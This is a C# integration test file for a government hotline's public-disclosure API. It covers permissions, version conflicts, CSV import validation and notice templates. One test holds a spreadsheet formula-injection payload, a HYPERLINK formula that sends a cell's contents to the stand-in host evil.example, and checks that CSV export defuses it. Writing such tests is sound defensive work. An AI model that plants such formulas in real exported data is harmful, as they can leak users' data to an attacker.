using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using HotlinePush.Notices.Matters;
using HotlinePush.Notices.Texts;
using HotlinePush.Tests.Support;

namespace HotlinePush.Tests.Notices;

public sealed class MatterTests : IAsyncLifetime
{
    private const string Path = "/api/v1/matters";
    private const string Header = "编号,公开领域,公开事项,公开要素,公开内容,公开依据,公开时限,公开方式,公开渠道,公开对象\r\n";

    private readonly HotlineApp _app = new();

    public Task InitializeAsync() => _app.InitializeAsync();

    public Task DisposeAsync() => _app.DisposeAsync();

    private HttpClient Publisher => _app.As("demo-publisher");

    private static object Matter(string id, string field = "relief", string name = "冬春救助发放", object? elements = null) => new
    {
        id,
        field,
        name,
        content = "救助对象、金额、发放时间",
        legalBasis = "《自然灾害救助条例》第二十一条",
        timeLimit = "决定作出之日起20个工作日内",
        elements,
    };

    private static StringContent Csv(string text) => new(text, Encoding.UTF8, "text/csv");

    private static async Task<JsonElement> JsonAsync(HttpResponseMessage answer) => await answer.Content.ReadFromJsonAsync<JsonElement>();

    [Fact]
    public async Task Matters_WhenAnOfficeWritesThem_AreReadByEverybody()
    {
        using var created = await Publisher.PostAsJsonAsync(Path, Matter("relief-winter", elements: new[] { "金额", "发放时间" }));

        Assert.Equal((HttpStatusCode.Created, "\"1\""), (created.StatusCode, created.Headers.ETag?.Tag));
        var all = await _app.Public.GetFromJsonAsync<JsonElement>(Path + "?field=relief");
        var matter = all.GetProperty("items").EnumerateArray().Single();
        Assert.Equal(("relief-winter", "city-civil", "active"), (matter.GetProperty("id").GetString(), matter.GetProperty("unitId").GetString(), matter.GetProperty("method").GetString()));
        Assert.Equal(2, matter.GetProperty("elements").GetArrayLength());
        Assert.Empty((await _app.Public.GetFromJsonAsync<JsonElement>(Path + "?field=housing")).GetProperty("items").EnumerateArray());
        Assert.Equal(HttpStatusCode.Unauthorized, (await _app.Public.PostAsJsonAsync(Path, Matter("x"))).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await _app.As("demo-reviewer").PostAsJsonAsync(Path, Matter("x"))).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await _app.Public.GetAsync(Path + "/nobody")).StatusCode);
    }

    [Fact]
    public async Task Matter_WhenChangedOnAVersionThatIsGone_Conflicts()
    {
        using var created = await Publisher.PostAsJsonAsync(Path, Matter("one"));
        using var changed = await PutAsync(Path + "/one", Matter("one", name: "新名称"), "\"1\"");
        using var late = await PutAsync(Path + "/one", Matter("one", name: "另一名称"), "\"1\"");

        Assert.Equal((HttpStatusCode.OK, HttpStatusCode.PreconditionFailed), (changed.StatusCode, late.StatusCode));
        Assert.Equal("新名称", (await _app.Public.GetFromJsonAsync<JsonElement>(Path + "/one")).GetProperty("name").GetString());

        async Task<HttpResponseMessage> PutAsync(string path, object body, string version)
        {
            using var request = new HttpRequestMessage(HttpMethod.Put, path) { Content = JsonContent.Create(body) };
            request.Headers.IfMatch.Add(EntityTagHeaderValue.Parse(version));
            return await Publisher.SendAsync(request);
        }
    }

    [Fact]
    public async Task List_WhenOneRowIsWrong_IsRefusedAsAWholeWithItsRows()
    {
        using var created = await Publisher.PostAsJsonAsync(Path, Matter("before"));

        using var answer = await Publisher.PutAsync(Path, Csv(
            Header + "ok-1,扶贫救灾,临时救助,,标准,《社会救助暂行办法》,20个工作日,主动公开,,\r\nBAD ID,不存在的领域,,,内容,依据,时限,有时公开,,\r\nok-1,relief,另一个,,内容,依据,时限,,,\r\n少一列\r\n"));

        Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
        var errors = (await JsonAsync(answer)).GetProperty("errors").EnumerateObject().Select(e => e.Name).ToArray();
        Assert.Contains("rows[3].method", errors);
        Assert.Contains("rows[5]", errors);
        Assert.Equal("before", Assert.Single((await _app.Public.GetFromJsonAsync<JsonElement>(Path)).GetProperty("items").EnumerateArray().ToArray()).GetProperty("id").GetString());

        using var further = await Publisher.PutAsync(Path, Csv(Header + "BAD ID,不存在的领域,,,内容,依据,时限,,,\r\nok-1,relief,另一个,,内容,依据,时限,,,\r\nok-1,relief,又一个,,内容,依据,时限,,,\r\n"));
        errors = [.. (await JsonAsync(further)).GetProperty("errors").EnumerateObject().Select(e => e.Name).Order(StringComparer.Ordinal)];
        Assert.Equal(["rows[2].field", "rows[2].id", "rows[2].name", "rows[4].id"], errors);
    }

    [Theory]
    [InlineData("", "required")]
    [InlineData("公开领域,公开事项\r\n", "required")]
    [InlineData("公开领域,公开事项,公开内容,公开依据,公开时限,密级\r\n", "unknownField")]
    [InlineData("公开领域,公开领域,公开事项,公开内容,公开依据,公开时限\r\n", "duplicateField")]
    [InlineData("\0\0\0\0", "badEncoding")]
    public async Task Csv_WithoutTheColumnsItNeeds_IsRefused(string text, string code)
    {
        using var answer = await Publisher.PutAsync(Path, Csv(text));

        Assert.Equal((HttpStatusCode.BadRequest, code), (answer.StatusCode, (await JsonAsync(answer)).GetProperty("code").GetString()));
    }

    [Fact]
    public async Task Csv_WhenCellsBeginLikeFormulas_GoesOutHarmless_AndComesBackAsItWas()
    {
        const string evil = "=HYPERLINK(\"http://evil.example/?\"&A1;\"点我\")";
        using var put = await Publisher.PutAsJsonAsync(Path, new { items = new[] { new { id = "evil", field = "relief", name = evil, content = "@SUM(1)", legalBasis = "-1+1", timeLimit = "'=x", channel = "+cmd" } } });
        Assert.Equal(HttpStatusCode.OK, put.StatusCode);

        using var request = new HttpRequestMessage(HttpMethod.Get, Path);
        request.Headers.Accept.ParseAdd("text/csv");
        using var answer = await _app.Public.SendAsync(request);
        var bytes = await answer.Content.ReadAsByteArrayAsync();
        var text = Encoding.UTF8.GetString(bytes);

        Assert.Equal([0xef, 0xbb, 0xbf], bytes[..3]);
        Assert.All(text.Split("\r\n")[1].Split(',').Select(c => c.Trim('"')).Where(c => c.Length > 0), cell => Assert.DoesNotContain(cell[0], "=+-@"));
        Assert.Contains("'=HYPERLINK", text, StringComparison.Ordinal);

        using var back = await Publisher.PutAsync(Path, Csv(text));
        Assert.Equal(HttpStatusCode.OK, back.StatusCode);
        var matter = await _app.Public.GetFromJsonAsync<JsonElement>(Path + "/evil");
        Assert.Equal((evil, "@SUM(1)", "+cmd"), (matter.GetProperty("name").GetString(), matter.GetProperty("content").GetString(), matter.GetProperty("channel").GetString()));
    }

    [Fact]
    public async Task Csv_InGb18030WithTheHeadersOfOffices_IsTaken()
    {
        var text = "公开领域,公开事项,公开内容,公开依据,公开时限,公开方式,公开对象\r\n农村危房改造,改造名单,姓名和补助标准,《农村危房改造办法》,审批后10个工作日,依申请公开,申请人\r\n";
        using var content = new ByteArrayContent(HotlinePush.Jobs.TextEncoding.Of("gb18030").GetBytes(text)) { Headers = { ContentType = new("text/csv") } };

        using var answer = await Publisher.PutAsync(Path, content);

        var matter = (await JsonAsync(answer)).GetProperty("items")[0];
        Assert.Equal(("ruralHousing", "onRequest", "申请人"), (matter.GetProperty("field").GetString(), matter.GetProperty("method").GetString(), matter.GetProperty("audience").GetString()));
    }

    [Fact]
    public async Task Notice_WhenItNamesAMatter_AgreesWithItAndKeepsItInTheCatalogue()
    {
        using var put = await Publisher.PutAsJsonAsync(Path, new { items = new[] { Matter("winter"), Matter("flood", name: "灾情救助") } });
        using var audience = await Publisher.PostAsJsonAsync("/api/v1/audiences", new { name = "救助对象", field = "relief" });
        var audienceId = (await JsonAsync(audience)).GetProperty("id").GetString();

        using var unknown = await DraftAsync("relief", "nobody");
        using var other = await DraftAsync("housing", "winter");
        using var drafted = await DraftAsync("relief", "winter");
        using var without = await Publisher.PutAsJsonAsync(Path, new { items = new[] { Matter("flood", name: "灾情救助") } });
        using var moved = await Publisher.PutAsJsonAsync(Path + "/winter", Matter("winter", field: "housing"));
        using var renamed = await Publisher.PutAsJsonAsync(Path + "/winter", Matter("winter", name: "冬令春荒救助"));

        Assert.Equal((HttpStatusCode.BadRequest, HttpStatusCode.BadRequest, HttpStatusCode.Created), (unknown.StatusCode, other.StatusCode, drafted.StatusCode));
        Assert.True((await JsonAsync(unknown)).GetProperty("errors").TryGetProperty("matterId", out _));
        Assert.Equal((HttpStatusCode.Conflict, "matterInUse"), (without.StatusCode, (await JsonAsync(without)).GetProperty("code").GetString()));
        Assert.Equal((HttpStatusCode.Conflict, HttpStatusCode.OK), (moved.StatusCode, renamed.StatusCode));
        // Nothing has gone out yet: the public learns of no draft.
        Assert.Empty((await _app.Public.GetFromJsonAsync<JsonElement>(Path + "/winter/notices")).GetProperty("items").EnumerateArray());
        Assert.Empty(_app.Warnings);

        Task<HttpResponseMessage> DraftAsync(string field, string matterId) => Publisher.PostAsJsonAsync("/api/v1/notices", new
        {
            title = "救助告知",
            field,
            matterId,
            audienceId,
            channels = new[] { "letter" },
            texts = new { letter = "您好。" },
        });
    }

    [Fact]
    public void ShippedTexts_AreTemplates_AndTheShippedChecklistIsOne()
    {
        Assert.Null(StartingTexts.Check(StartingTexts.Shipped));
        Assert.Null(ReviewChecklist.Check(ReviewChecklist.Shipped));
        // With the six fields the hotline began with, on every channel; and short enough not to be a letter by SMS.
        Assert.Equal(24, StartingTexts.Shipped.Count);
        foreach (var text in StartingTexts.Shipped)
        {
            var body = NoticeTemplate.Parse(text.Body).Template!.Fill(name => name == "姓名" ? "王小明" : "6月30日", v => v, out var missing);
            Assert.Empty(missing);
            Assert.True(text.Channel != HotlinePush.Channels.ChannelKind.Sms || SmsLength.Of(body, "云泽市12345").Segments <= 2, body);
        }
    }

    [Fact]
    public async Task TextsAndChecklist_AreKeptByAdministratorsAlone()
    {
        var texts = await Publisher.GetFromJsonAsync<JsonElement>("/api/v1/starting-texts");
        using var bad = await _app.Admin.PutAsJsonAsync("/api/v1/starting-texts", new { items = new[] { new { field = "relief", channel = "sms", body = "{{未完" } } });
        using var forbidden = await Publisher.PutAsJsonAsync("/api/v1/review-checklist", new { items = new[] { new { id = "a", part = "secrecy", text = "不含秘密" } } });
        using var kept = await _app.Admin.PutAsJsonAsync("/api/v1/review-checklist", new { items = new[] { new { id = "a", part = "secrecy", text = "不含秘密" } } });
        var checklist = await _app.As("demo-reviewer").GetFromJsonAsync<JsonElement>("/api/v1/review-checklist");

        Assert.Equal(24, texts.GetProperty("items").GetArrayLength());
        Assert.Equal((HttpStatusCode.BadRequest, HttpStatusCode.Forbidden, HttpStatusCode.OK), (bad.StatusCode, forbidden.StatusCode, kept.StatusCode));
        Assert.Equal("不含秘密", checklist.GetProperty("items")[0].GetProperty("text").GetString());
    }
}
